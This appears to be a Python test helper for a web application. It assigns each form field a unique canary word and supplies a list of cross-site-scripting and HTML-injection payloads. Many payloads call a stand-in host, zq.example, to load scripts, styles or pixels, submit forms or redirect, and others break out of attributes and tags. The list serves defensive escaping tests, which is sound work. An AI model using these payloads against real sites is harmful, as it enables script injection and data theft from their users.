"""What the fields of the test school hold: a word of its own each, and markup that must not run.

`Words` makes the texts and remembers which word stands in which field, so that a word met on
a page tells which field leaked there.
"""

import re

#: Markup as an attacker would type it. What it would leave on a page is called `zq`.
PAYLOADS = [
    "<script>zq()</script>",
    "<ScRiPt src=//zq.example/x.js></sCrIpT>",
    "<img src=x onerror=zq()>",
    "<img src=https://zq.example/pixel.png>",
    "<svg onload=zq()>",
    "<svg><animate onbegin=zq() attributeName=x dur=1s>",
    "<body onload=zq()>",
    "<iframe src=javascript:zq()></iframe>",
    "<iframe srcdoc='<script>zq()</script>'>",
    "<object data=javascript:zq()>",
    "<embed src=//zq.example/x.swf>",
    "<a href=javascript:zq()>zq</a>",
    "<a href='java&#x09;script:zq()'>zq</a>",
    "<form action=//zq.example><button>zq</button></form>",
    "<button formaction=javascript:zq()>zq</button>",
    "<input autofocus onfocus=zq()>",
    "<details open ontoggle=zq()>",
    "<video><source onerror=zq()>",
    "<math><mi xlink:href='javascript:zq()'>zq</mi></math>",
    "<style>@import '//zq.example/x.css';</style>",
    "<link rel=stylesheet href=//zq.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//zq.example'>",
    "<base href=//zq.example/>",
    "<zq>",
    '" zq="1',
    "' zq='1",
    '"><zq zq=1>',
    "'><zq zq=1>",
    '" onmouseover="zq()',
    "' onfocus='zq()' autofocus='",
    "` onload=`zq()",
    "</title><zq>",
    "</textarea><zq>",
    "</script><script>zq()</script>",
    "--><zq>",
    "<!--<script><zq>",
    "&lt;script&gt;zq()&lt;/script&gt;",
    "[zq](javascript:zq()) ![zq](//zq.example/p.png) <javascript:zq()>",
    '[zq](data:text/html;base64,PHNjcmlwdD4= "onclick=zq()")',
    "{{ zq }}{% zq %}${zq()}#{zq()}",
]


WORD = re.compile(r"canary\d{4}yranac")


class Words:
    def __init__(self, payloads=()):
        self.payloads = payloads
        self.fields = {}  # word: the field that holds it
        self.count = 0

    def word(self, field):
        """The word of this field alone: letters and digits that no escaping touches."""
        known = {name: word for word, name in self.fields.items()}
        word = known.get(field) or f"canary{len(self.fields):04d}yranac"
        self.fields[word] = field
        return word

    def next_ones(self, count):
        for _number in range(count if self.payloads else 0):
            yield self.payloads[self.count % len(self.payloads)]
            self.count += 1

    def short(self, field):
        """The field's word and one payload, the next of the list."""
        return " ".join([self.word(field), *self.next_ones(1)])

    def long(self, field):
        """The field's word and a few payloads, each a paragraph."""
        return "\n\n".join([self.word(field), *self.next_ones(5)])

    def all(self, field):
        """The field's word and every payload."""
        return "\n\n".join([self.word(field), *self.payloads])

    def found_in(self, text):
        """The fields whose words stand in `text`."""
        return {self.fields[word] for word in set(WORD.findall(text)) & self.fields.keys()}
